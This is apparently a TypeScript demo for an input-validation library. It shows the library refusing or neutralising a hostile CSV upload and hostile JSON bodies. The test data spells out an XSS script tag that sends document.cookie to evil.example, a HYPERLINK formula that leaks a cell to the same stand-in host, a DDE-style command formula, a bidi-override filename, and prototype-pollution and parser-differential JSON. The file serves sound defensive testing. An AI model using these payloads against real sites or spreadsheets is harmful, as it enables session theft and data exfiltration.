// Demo scene for @portcullis/boundary: a partner uploads a CSV of contacts carrying XSS,
// spreadsheet-formula and bidi-override payloads. Each row is refused with a numbered error or
// imported clean; the good rows are then shown in HTML (encoded) and exported back to CSV
// (formulas neutralised). Then a hostile JSON body meets the JSON limits.
import {
  exportCsv,
  importCsv,
  isBoundaryError,
  parseJson,
  sanitize,
  toProblemDetails,
} from '@portcullis/boundary';
import { z } from 'zod';

const Contact = z.object({
  email: z.email(),
  name: z.string().min(1).max(80),
  note: z.string().max(200),
});

const upload = [
  'email,name,note',
  'ada@example.com,Ada Lovelace,first customer',
  'mallory@example.com,"<script>fetch(\'//evil.example/\'+document.cookie)</script>",xss in a name',
  'eve@example.com,Eve,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"',
  'bob@example.com,Bob,"@SUM(1+1)*cmd|\' /C calc\'!A0"',
  'not-an-email,Trudy,bad address',
  'carol@example.com,"Carol\u202Egnp.exe",bidi override in a name',
].join('\n');

export async function boundaryScene(say: (line: string) => void): Promise<void> {
  const { rows, errors } = await importCsv(upload, Contact);
  say(`CSV upload: ${rows.length} rows imported, ${errors.length} refused`);
  for (const e of errors) {
    say(
      `  row ${e.row} (line ${e.line}) refused: ${e.code} at ${e.issues.map((i) => `${i.path.join('.')} (${i.expected})`).join(', ')}`,
    );
  }
  for (const row of rows) say(`  shown in HTML as: <td>${sanitize.html(row.name)}</td>`);
  say(`bidi override stripped: ${JSON.stringify(rows.at(-1)?.name)}`);

  const exported = exportCsv([...rows, { email: 'ops@example.com', name: '=1+1', note: '-2+3' }]);
  say(`exported back to CSV, formulas neutralised: ${JSON.stringify(exported.split('\n').at(-2))}`);

  for (const [label, body] of [
    ['prototype pollution', '{"__proto__":{"isAdmin":true}}'],
    ['duplicate key (parser differential)', '{"amount":1,"amount":1000000}'],
    ['100 000 levels of nesting', '['.repeat(100_000) + ']'.repeat(100_000)],
    ['an id JSON.parse would round', '{"id":9007199254740993}'],
  ] as const) {
    try {
      parseJson(body);
      say(`${label}: accepted (unexpected)`);
    } catch (error) {
      if (!isBoundaryError(error)) throw error;
      const problem = toProblemDetails(error);
      say(`${label}: refused, HTTP ${problem.status} ${problem.code}`);
    }
  }
}
